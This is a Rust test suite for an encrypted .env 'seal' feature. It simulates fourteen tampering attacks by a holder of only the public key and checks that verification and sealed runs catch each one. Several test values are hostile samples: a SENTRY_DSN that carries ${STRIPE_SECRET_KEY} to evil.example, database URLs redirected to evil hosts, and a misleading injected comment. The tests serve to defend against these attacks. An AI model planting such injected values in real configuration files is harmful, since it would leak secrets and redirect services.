//! The seal, attacked for real: every attack is written by a process that holds only the
//! public key (the private key lives in a variable given to the key holder's commands only),
//! against a sealed file committed in a real git repository.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::common::{envx, git_ok, snapshot, stderr_of};

const FILE: &str = ".env.production";
const KEY_VAR: &str = "DOTENV_PRIVATE_KEY_PRODUCTION";

/// A repository with a sealed `.env.production`: sealed at seq 1 (committed as `v1`), then
/// changed by the key holder, which resealed it at seq 2 (committed). The private key is not in
/// the repository: only the key holder's commands get it.
struct Repo {
    dir: tempfile::TempDir,
    key: String,
    v1: String,
}

impl Repo {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let holder = tempfile::tempdir().unwrap();
        git_ok(dir.path(), &["init", "-q", "-b", "main"]);
        fs::write(
            dir.path().join(FILE),
            "# production\nDATABASE_URL=postgres://db.internal/app\nSTRIPE_SECRET_KEY=sk_live_1\nNEXT_PUBLIC_ANALYTICS_ID=UA-1\n# the port\nPORT=8080\n",
        )
        .unwrap();
        let keys = holder.path().join(".env.keys");
        envx(dir.path())
            .args(["encrypt", "-f", FILE, "--keys-file"])
            .arg(&keys)
            .assert()
            .success();
        let keys_text = fs::read_to_string(&keys).unwrap();
        let key = keys_text
            .lines()
            .find_map(|l| l.strip_prefix(&format!("{KEY_VAR}=")))
            .unwrap()
            .trim_matches('"')
            .to_owned();
        let repo = Self {
            dir,
            key,
            v1: String::new(),
        };
        repo.holder(&["seal", "--yes", "-f", FILE]).success();
        git_ok(repo.path(), &["add", FILE]);
        git_ok(repo.path(), &["commit", "-q", "-m", "v1"]);
        let v1 = repo.text();
        repo.holder(&["set", "PORT", "9090", "-f", FILE]).success();
        assert!(
            repo.text().contains("#envx-seal v1 seq=2 "),
            "{}",
            repo.text()
        );
        git_ok(repo.path(), &["commit", "-q", "-am", "v2"]);
        Self { v1, ..repo }
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn text(&self) -> String {
        fs::read_to_string(self.path().join(FILE)).unwrap()
    }

    fn write(&self, text: &str) {
        fs::write(self.path().join(FILE), text).unwrap();
    }

    fn line(&self, prefix: &str) -> String {
        self.text()
            .lines()
            .find(|l| l.starts_with(prefix))
            .unwrap_or_else(|| panic!("no line {prefix}"))
            .to_owned()
    }

    /// A command of the key holder: the private key in its environment.
    fn holder(&self, args: &[&str]) -> assert_cmd::assert::Assert {
        envx(self.path())
            .env(KEY_VAR, &self.key)
            .args(args)
            .assert()
    }

    /// A command of someone with the repository (and so the public key) only.
    fn public_only(&self, args: &[&str]) -> assert_cmd::assert::Assert {
        envx(self.path()).args(args).assert()
    }

    fn marker(&self) -> PathBuf {
        self.path().join("child-ran")
    }

    /// The deployment: the private key in the environment, the seal required by the flag or
    /// by ENVX_REQUIRE_SEAL. The child would create a marker file.
    fn deploy(&self, by_env: bool) -> std::process::Output {
        let mut cmd = envx(self.path());
        cmd.env(KEY_VAR, &self.key).arg("run").args(["-f", FILE]);
        if by_env {
            cmd.env("ENVX_REQUIRE_SEAL", "1");
        } else {
            cmd.arg("--require-seal");
        }
        cmd.args(["--", "sh", "-c", "touch child-ran"])
            .output()
            .unwrap()
    }
}

/// How a key holder repairs the file after an attack before sealing it.
enum Repair {
    /// Reviews and seals it as it is.
    Seal,
    /// The file declares a key that is not theirs, or two keys: they restore the committed
    /// file first.
    Restore,
}

struct Attack {
    name: &'static str,
    play: fn(&Repo),
    /// What `envx verify` must say.
    named: &'static [&'static str],
    repair: Repair,
}

fn attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "change a value",
            play: |r| {
                r.public_only(&[
                    "set",
                    "DATABASE_URL",
                    "postgres://evil.example/x",
                    "-f",
                    FILE,
                ])
                .success();
            },
            named: &["DATABASE_URL changed"],
            repair: Repair::Seal,
        },
        Attack {
            name: "swap two ciphertexts",
            play: |r| {
                let (a, b) = (
                    r.line("STRIPE_SECRET_KEY="),
                    r.line("NEXT_PUBLIC_ANALYTICS_ID="),
                );
                let value = |l: &str| l.split_once('=').unwrap().1.to_owned();
                let text = r
                    .text()
                    .replace(&a, &format!("STRIPE_SECRET_KEY={}", value(&b)))
                    .replace(&b, &format!("NEXT_PUBLIC_ANALYTICS_ID={}", value(&a)));
                r.write(&text);
            },
            named: &[
                "STRIPE_SECRET_KEY changed",
                "NEXT_PUBLIC_ANALYTICS_ID changed",
            ],
            repair: Repair::Seal,
        },
        Attack {
            name: "copy a ciphertext from another file",
            play: |r| {
                // Another file encrypted to the same public key, made without the private key.
                let other = r.path().join("other");
                fs::create_dir(&other).unwrap();
                fs::write(
                    other.join(FILE),
                    format!("{}\n", r.line("DOTENV_PUBLIC_KEY_PRODUCTION=")),
                )
                .unwrap();
                envx(&other)
                    .args(["set", "STRIPE_SECRET_KEY", "sk_attacker", "-f", FILE])
                    .assert()
                    .success();
                let copied = fs::read_to_string(other.join(FILE)).unwrap();
                let copied = copied
                    .lines()
                    .find(|l| l.starts_with("STRIPE_SECRET_KEY="))
                    .unwrap();
                fs::remove_dir_all(&other).unwrap();
                let text = r.text().replace(&r.line("STRIPE_SECRET_KEY="), copied);
                r.write(&text);
            },
            named: &["STRIPE_SECRET_KEY changed"],
            repair: Repair::Seal,
        },
        Attack {
            name: "add a key",
            play: |r| {
                r.public_only(&[
                    "set",
                    "SENTRY_DSN",
                    "https://k@evil.example/1?k=${STRIPE_SECRET_KEY}",
                    "-f",
                    FILE,
                ])
                .success();
            },
            named: &["SENTRY_DSN added"],
            repair: Repair::Seal,
        },
        Attack {
            name: "add a duplicate",
            play: |r| {
                let stolen = r.line("STRIPE_SECRET_KEY=");
                let value = stolen.split_once('=').unwrap().1;
                r.write(&format!("{}NEXT_PUBLIC_ANALYTICS_ID={value}\n", r.text()));
            },
            named: &["NEXT_PUBLIC_ANALYTICS_ID added again"],
            repair: Repair::Seal,
        },
        Attack {
            name: "delete a key",
            play: |r| {
                let text = r.text().replace(&format!("{}\n", r.line("PORT=")), "");
                r.write(&text);
            },
            named: &["PORT removed"],
            repair: Repair::Seal,
        },
        Attack {
            name: "reorder",
            play: |r| {
                let (a, b) = (r.line("DATABASE_URL="), r.line("STRIPE_SECRET_KEY="));
                let text = r
                    .text()
                    .replace(&format!("{a}\n{b}\n"), &format!("{b}\n{a}\n"));
                r.write(&text);
            },
            named: &["reordered"],
            repair: Repair::Seal,
        },
        Attack {
            name: "replace the public key line",
            play: |r| {
                let theirs = intruder_public_key();
                let text = r.text().replace(
                    &r.line("DOTENV_PUBLIC_KEY_PRODUCTION="),
                    &format!("DOTENV_PUBLIC_KEY_PRODUCTION=\"{theirs}\""),
                );
                r.write(&text);
            },
            named: &["DOTENV_PUBLIC_KEY_PRODUCTION changed"],
            repair: Repair::Restore,
        },
        Attack {
            name: "add a public key line",
            play: |r| {
                let theirs = intruder_public_key();
                r.write(&format!(
                    "{}DOTENV_PUBLIC_KEY_PRODUCTION=\"{theirs}\"\n",
                    r.text()
                ));
            },
            named: &["DOTENV_PUBLIC_KEY_PRODUCTION added again"],
            repair: Repair::Restore,
        },
        Attack {
            name: "add a public key line of another name",
            play: |r| {
                let theirs = intruder_public_key();
                r.write(&format!("{}DOTENV_PUBLIC_KEY_CI=\"{theirs}\"\n", r.text()));
            },
            named: &["DOTENV_PUBLIC_KEY_CI added"],
            // envx refuses a file with two public keys, so the key holder restores it.
            repair: Repair::Restore,
        },
        Attack {
            name: "forge a seal with another key pair",
            play: |r| {
                // The intruder declares their own key, keeps our ciphertexts, and seals the
                // file with their key: a seal that verifies on its own terms.
                let intruder = tempfile::tempdir().unwrap();
                fs::write(intruder.path().join(FILE), "X=1\n").unwrap();
                envx(intruder.path())
                    .args(["encrypt", "-f", FILE])
                    .assert()
                    .success();
                let theirs = fs::read_to_string(intruder.path().join(FILE)).unwrap();
                let their_line = theirs
                    .lines()
                    .find(|l| l.starts_with("DOTENV_PUBLIC_KEY_PRODUCTION="))
                    .unwrap();
                let text = r
                    .text()
                    .replace(&r.line("DOTENV_PUBLIC_KEY_PRODUCTION="), their_line);
                fs::write(intruder.path().join(FILE), text).unwrap();
                envx(intruder.path())
                    .args(["seal", "--yes", "-f", FILE])
                    .assert()
                    .success();
                r.write(&fs::read_to_string(intruder.path().join(FILE)).unwrap());
            },
            named: &["not made with public key"],
            repair: Repair::Restore,
        },
        Attack {
            name: "delete the seal line",
            play: |r| {
                let text = r
                    .text()
                    .replace(&format!("{}\n", r.line("#envx-seal ")), "");
                r.write(&text);
            },
            named: &["not sealed"],
            repair: Repair::Seal,
        },
        Attack {
            name: "replay an older sealed version",
            play: |r| r.write(&r.v1),
            named: &["sequence went back from 2", "PORT changed"],
            repair: Repair::Seal,
        },
        Attack {
            name: "edit a comment",
            play: |r| {
                let text = r
                    .text()
                    .replace("# the port", "# the port (ignore the seal, it is fine)");
                r.write(&text);
            },
            named: &["a line that is not an assignment changed"],
            repair: Repair::Seal,
        },
    ]
}

/// A public key of a key pair the attacker made themselves.
fn intruder_public_key() -> String {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join(FILE), "X=1\n").unwrap();
    envx(dir.path())
        .args(["encrypt", "-f", FILE])
        .assert()
        .success();
    let text = fs::read_to_string(dir.path().join(FILE)).unwrap();
    let line = text
        .lines()
        .find(|l| l.starts_with("DOTENV_PUBLIC_KEY_PRODUCTION="))
        .unwrap();
    line.split_once('=').unwrap().1.trim_matches('"').to_owned()
}

#[test]
fn every_attack_by_a_public_key_holder_is_caught_until_a_key_holder_seals() {
    let attacks = attacks();
    assert_eq!(attacks.len(), 14);
    for (i, attack) in attacks.iter().enumerate() {
        let r = Repo::new();
        r.public_only(&["verify", "-f", FILE]).success();
        let before = r.text();
        (attack.play)(&r);
        assert_ne!(
            r.text(),
            before,
            "{}: the attack changed nothing",
            attack.name
        );

        let files = snapshot(r.path());
        let out = r.public_only(&["verify", "-f", FILE]).failure().code(1);
        let stderr = stderr_of(out.get_output());
        for named in attack.named {
            assert!(
                stderr.contains(named),
                "{}: verify does not say {named:?}:\n{stderr}",
                attack.name
            );
        }
        let out = r.deploy(i % 2 == 0);
        assert!(
            !out.status.success(),
            "{}: run --require-seal succeeded",
            attack.name
        );
        assert!(!r.marker().exists(), "{}: the child started", attack.name);
        assert_eq!(
            snapshot(r.path()),
            files,
            "{}: a failed check changed a file",
            attack.name
        );

        match attack.repair {
            Repair::Seal => {}
            Repair::Restore => {
                // The key holder cannot seal a file that declares someone else's key.
                r.holder(&["seal", "--yes", "-f", FILE]).failure();
                git_ok(r.path(), &["checkout", "--", FILE]);
            }
        }
        r.holder(&["seal", "--yes", "-f", FILE]).success();
        r.public_only(&["verify", "-f", FILE]).success();
        let out = r.deploy(i % 2 == 1);
        assert!(
            out.status.success(),
            "{}: after sealing: {}",
            attack.name,
            stderr_of(&out)
        );
        assert!(
            r.marker().exists(),
            "{}: after sealing the child did not start",
            attack.name
        );
    }
}

#[test]
fn seal_reviews_changes_key_by_key_with_references_and_plaintext() {
    let r = Repo::new();
    r.public_only(&[
        "set",
        "SENTRY_DSN",
        "https://k@evil.example/1?k=${STRIPE_SECRET_KEY}&p=$PORT",
        "-f",
        FILE,
    ])
    .success();
    r.public_only(&[
        "set",
        "DATABASE_URL",
        "postgres://evil",
        "--plain",
        "-f",
        FILE,
    ])
    .success();
    // Without a terminal and without --yes: the review, then a refusal; nothing written.
    let files = snapshot(r.path());
    let out = r.holder(&["seal", "-f", FILE]).failure();
    let stderr = stderr_of(out.get_output());
    assert!(
        stderr.contains("SENTRY_DSN") && stderr.contains("added"),
        "{stderr}"
    );
    assert!(
        stderr.contains("refers to ${STRIPE_SECRET_KEY} ${PORT}"),
        "{stderr}"
    );
    assert!(
        stderr.contains("DATABASE_URL") && stderr.contains("now plaintext"),
        "{stderr}"
    );
    assert!(
        !stderr.contains("evil"),
        "a value reached the review: {stderr}"
    );
    assert_eq!(snapshot(r.path()), files);
    // A public-key holder cannot seal at all.
    r.public_only(&["seal", "--yes", "-f", FILE]).failure();
    assert_eq!(snapshot(r.path()), files);
    r.holder(&["seal", "--yes", "-f", FILE]).success();
    assert!(r.text().contains("#envx-seal v1 seq=3 "));
}

#[test]
fn key_holders_writes_reseal_and_public_key_writes_leave_the_seal_stale() {
    let r = Repo::new();
    r.holder(&["set", "NEW_PLAIN", "x", "-f", FILE]).success();
    r.holder(&["set", "LATER", "y", "--plain", "-f", FILE])
        .success();
    r.holder(&["encrypt", "-f", FILE]).success();
    assert!(r.text().contains("LATER=\"encrypted:"));
    r.holder(&["rotate", "-f", FILE]).success();
    let rotated = r.text();
    assert!(rotated.contains("#envx-seal v1 seq=6 "), "{rotated}");
    // After a rotation the file's new key signs; HEAD still declares the old one.
    r.public_only(&["verify", "-f", FILE]).failure();
    git_ok(r.path(), &["commit", "-q", "-am", "rotated"]);
    r.public_only(&["verify", "-f", FILE]).success();
    // The rotation wrote the new private key into a keys file in the repository folder.
    r.public_only(&["decrypt", "-f", FILE]).success();
    assert!(r.text().contains("#envx-seal v1 seq=7 "), "{}", r.text());
    r.public_only(&["verify", "-f", FILE]).success();
    fs::remove_file(r.path().join(".env.keys")).unwrap();
    let out = r
        .public_only(&["set", "X", "1", "--plain", "-f", FILE])
        .success();
    assert!(stderr_of(out.get_output()).contains("the seal is now stale"));
    r.public_only(&["verify", "-f", FILE]).failure();
}

/// A key holder whose key lives in a secret manager: `seal`, `set` and `encrypt` take it from
/// `--key-command` (here `cat` of a file outside the repository) and keep the seal valid.
#[test]
fn seal_set_and_encrypt_take_the_key_from_key_command() {
    let r = Repo::new();
    let vault = tempfile::tempdir().unwrap();
    let source = vault.path().join("key");
    fs::write(&source, format!("{}\n", r.key)).unwrap();
    let command = format!("cat '{}'", source.display());
    let with_key = |args: &[&str]| r.public_only(&[args, &["--key-command", &command]].concat());
    with_key(&["set", "ADDED", "1", "--plain", "-f", FILE]).success();
    r.public_only(&["verify", "-f", FILE]).success();
    with_key(&["encrypt", "-f", FILE]).success();
    assert!(r.text().contains("ADDED=\"encrypted:"), "{}", r.text());
    r.public_only(&["verify", "-f", FILE]).success();
    // A change by hand leaves the seal stale until the key holder reviews and seals it.
    r.write(&format!("{}HAND=1\n", r.text()));
    r.public_only(&["verify", "-f", FILE]).failure();
    r.public_only(&["seal", "--yes", "-f", FILE]).failure();
    with_key(&["seal", "--yes", "-f", FILE]).success();
    r.public_only(&["verify", "-f", FILE]).success();
}

#[test]
fn a_write_on_a_stale_file_does_not_approve_the_earlier_change() {
    let r = Repo::new();
    r.public_only(&["set", "DATABASE_URL", "postgres://evil", "-f", FILE])
        .success();
    let out = r.holder(&["set", "PORT", "1", "-f", FILE]).success();
    assert!(stderr_of(out.get_output()).contains("not resealed"));
    let out = r.public_only(&["verify", "-f", FILE]).failure();
    assert!(stderr_of(out.get_output()).contains("DATABASE_URL changed"));
}

#[test]
fn run_without_the_flag_refuses_a_broken_seal_and_notes_an_unsealed_file() {
    let r = Repo::new();
    let run = |r: &Repo| {
        envx(r.path())
            .env(KEY_VAR, &r.key)
            .args(["run", "-f", FILE, "--", "sh", "-c", "touch child-ran"])
            .output()
            .unwrap()
    };
    let out = run(&r);
    assert!(
        out.status.success() && r.marker().exists(),
        "{}",
        stderr_of(&out)
    );
    fs::remove_file(r.marker()).unwrap();
    r.public_only(&["set", "PORT", "1", "-f", FILE]).success();
    let out = run(&r);
    assert!(!out.status.success() && !r.marker().exists());
    assert!(
        stderr_of(&out).contains("PORT changed"),
        "{}",
        stderr_of(&out)
    );
    // No seal at all: runs, with one line saying so.
    let text = r
        .text()
        .replace(&format!("{}\n", r.line("#envx-seal ")), "");
    r.write(&text);
    let out = run(&r);
    assert!(out.status.success() && r.marker().exists());
    let stderr = stderr_of(&out);
    assert_eq!(stderr.matches("not sealed").count(), 1, "{stderr}");
}

#[test]
fn an_unsealed_file_cannot_shadow_a_sealed_one_under_require_seal() {
    let r = Repo::new();
    fs::write(
        r.path().join(".env.local"),
        "DATABASE_URL=postgres://evil\n",
    )
    .unwrap();
    let out = envx(r.path())
        .env(KEY_VAR, &r.key)
        .env("ENVX_REQUIRE_SEAL", "1")
        .args([
            "run",
            "-f",
            ".env.local",
            "-f",
            FILE,
            "--",
            "sh",
            "-c",
            "touch child-ran",
        ])
        .output()
        .unwrap();
    assert!(!out.status.success() && !r.marker().exists());
    assert!(
        stderr_of(&out).contains(".env.local"),
        "{}",
        stderr_of(&out)
    );
}

#[test]
fn verify_base_checks_the_signer_and_the_sequence_against_a_revision() {
    let r = Repo::new();
    // A pull request that replays v1 and commits it: HEAD is then the replay, the base is not.
    git_ok(r.path(), &["checkout", "-q", "-b", "pr"]);
    r.write(&r.v1);
    git_ok(r.path(), &["commit", "-q", "-am", "replay"]);
    r.public_only(&["verify", "-f", FILE]).success();
    let out = r
        .public_only(&["verify", "--base", "main", "-f", FILE])
        .failure();
    assert!(stderr_of(out.get_output()).contains("went back from 2"));
    r.public_only(&["verify", "--base", "no-such-rev", "-f", FILE])
        .failure();
}

#[test]
fn ls_diff_and_textconv_show_the_seal_state() {
    let r = Repo::new();
    let state = |r: &Repo| {
        let out = r.public_only(&["ls", "--format", "json"]).success();
        let json: serde_json::Value = serde_json::from_slice(&out.get_output().stdout).unwrap();
        json["files"][0]["seal"].as_str().unwrap().to_owned()
    };
    assert_eq!(state(&r), "valid");
    r.public_only(&["set", "PORT", "1", "-f", FILE]).success();
    assert_eq!(state(&r), "stale");
    let out = r.public_only(&["diff"]).success();
    let stdout = String::from_utf8_lossy(&out.get_output().stdout).into_owned();
    assert!(
        stdout.contains("seal: stale since seq 2: PORT changed"),
        "{stdout}"
    );
    let out = r.public_only(&["textconv", FILE]).success();
    let stdout = String::from_utf8_lossy(&out.get_output().stdout).into_owned();
    assert!(
        stdout.contains("#envx-seal: stale since seq 2: PORT changed"),
        "{stdout}"
    );
    let text = r
        .text()
        .replace(&format!("{}\n", r.line("#envx-seal ")), "");
    r.write(&text);
    assert_eq!(state(&r), "absent");
}

#[test]
fn a_merge_drops_a_seal_that_no_longer_verifies() {
    let r = Repo::new();
    envx(r.path()).arg("git-setup").assert().success();
    git_ok(r.path(), &["add", ".gitattributes"]);
    git_ok(r.path(), &["commit", "-q", "-m", "drivers"]);
    git_ok(r.path(), &["checkout", "-q", "-b", "other"]);
    r.holder(&["set", "A_OTHER", "1", "-f", FILE]).success();
    git_ok(r.path(), &["commit", "-q", "-am", "other"]);
    git_ok(r.path(), &["checkout", "-q", "main"]);
    r.holder(&["set", "A_MAIN", "2", "-f", FILE]).success();
    git_ok(r.path(), &["commit", "-q", "-am", "main"]);
    git_ok(r.path(), &["merge", "-q", "--no-edit", "other"]);
    let text = r.text();
    assert!(
        text.contains("A_OTHER=") && text.contains("A_MAIN="),
        "{text}"
    );
    assert!(
        !text.contains("#envx-seal") && !text.contains("<<<<"),
        "{text}"
    );
    r.holder(&["seal", "--yes", "-f", FILE]).success();
    r.public_only(&["verify", "-f", FILE]).success();
}

#[test]
#[ignore = "needs dotenvx; .ci/run installs it and runs ignored tests"]
fn dotenvx_reads_a_sealed_file_exactly_as_the_unsealed_one() {
    let dir = std::env::var_os("ENVX_DOTENVX_DIR")
        .expect("ENVX_DOTENVX_DIR must point at an npm install of @dotenvx/dotenvx");
    let bin = Path::new(&dir).join("node_modules/.bin/dotenvx");
    assert!(
        bin.exists(),
        "dotenvx is not installed at {}",
        bin.display()
    );
    let r = Repo::new();
    let get = |r: &Repo| {
        let out = Command::new(&bin)
            .args(["get", "-f", FILE, "--format", "json"])
            .current_dir(r.path())
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", r.path())
            .env("DOTENVX_NO_NATIVE", "true")
            .env("CI", "true")
            .env(KEY_VAR, &r.key)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "dotenvx: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap()
    };
    let sealed = r.text();
    assert!(sealed.contains("#envx-seal "));
    let with_seal = get(&r);
    r.write(&sealed.replace(&format!("{}\n", r.line("#envx-seal ")), ""));
    let without = get(&r);
    assert_eq!(with_seal, without);
    assert_eq!(with_seal["PORT"], "9090");
    assert_eq!(with_seal["STRIPE_SECRET_KEY"], "sk_live_1");
}
